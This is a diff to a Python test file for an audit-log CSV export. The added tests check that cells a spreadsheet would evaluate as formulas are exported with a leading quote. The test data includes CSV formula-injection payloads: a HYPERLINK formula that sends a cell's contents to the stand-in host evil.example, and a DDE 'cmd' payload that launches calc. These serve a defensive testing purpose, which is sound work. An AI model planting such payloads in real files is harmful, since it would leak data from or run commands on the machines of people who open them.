@@ -4,6 +4,7 @@ import re
 
 import pytest
 
+from ledger import services
 from reconciliation import decisions
 from tests.conftest import make_job
 from tests.console.conftest import htmx, latest_version, make_unknown_job
@@ -91,3 +92,87 @@ def test_csv_export_carries_each_events_hash_chain(client, auditor, history):
     assert oldest_first[0]["prev_hash"] == ""
     for earlier, later in zip(oldest_first, oldest_first[1:], strict=False):
         assert later["prev_hash"] == earlier["hash"]  # an auditor can verify the chain from the file
+
+
+# -- CSV formula injection: a cell a spreadsheet would evaluate is exported as text ---------------
+
+FORMULAS = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "plus": "+SUM(1,2)",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+    "leading spaces": "   =1+1",
+    "leading newline": "\n@SUM(A1)",
+}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _would_be_a_formula(cell: str) -> bool:
+    return cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)
+
+
+def _export(client, query="") -> tuple[str, list[dict]]:
+    text = b"".join(client.get(f"/audit/export.csv?{query}").streaming_content).decode()
+    return text, list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.fixture
+def formulas(db, operator):
+    """A job id, worker names, a worker's reason and an operator's note of every dangerous form."""
+    make_unknown_job(FORMULAS["equals"])
+    decisions.escalate(
+        job_id=FORMULAS["equals"], version=latest_version(FORMULAS["equals"]), user=operator, note=FORMULAS["at"]
+    )
+    for name, value in FORMULAS.items():
+        make_job(f"w-{name}")
+        lease = services.claim_job(job_id=f"w-{name}", worker=value)
+        services.begin_side_effect(lease=lease)
+        services.record_unknown(lease=lease, reason=value)
+
+
+def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(client, auditor, formulas):
+    client.force_login(auditor)
+    text, rows = _export(client)
+    for row in rows:
+        for column, cell in row.items():
+            assert not _would_be_a_formula(cell), (column, cell)
+    assert "'" + FORMULAS["equals"] in {row["job_id"] for row in rows}
+    assert "'" + FORMULAS["at"] in {row["note"] for row in rows if row["kind"] == "operator_escalated"}
+    for name, value in FORMULAS.items():
+        mine = [row for row in rows if row["job_id"] == f"w-{name}"]
+        assert "'" + value in {row["actor"] for row in mine}  # the worker's name
+        assert "'" + value in {row["note"] for row in mine if row["kind"] == "observation_lost"}  # its reason
+    # Every cell is quoted, so a separator or quote inside a value cannot open a new cell.
+    assert all(record.startswith('"') for record in text.split("\r\n") if record)  # no cell here holds \r\n
+
+
+def test_ordinary_cells_are_exported_unchanged(client, auditor, history):
+    client.force_login(auditor)
+    _, rows = _export(client, "job=inv-1")
+    assert {row["job_id"] for row in rows} == {"inv-1"} and "odd invoice" in {row["note"] for row in rows}
+    assert not any(cell.startswith("'") for row in rows for cell in row.values())
+
+
+@pytest.mark.parametrize(
+    "value, exported",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        (" \t =x", "' \t =x"),
+        ("a=b", "a=b"),
+        ("", ""),
+        ("'=already text", "'=already text"),
+        (42, 42),
+        (None, None),
+    ],
+)
+def test_neutralise(value, exported):
+    from console.csv_export import neutralise
+
+    assert neutralise(value) == exported
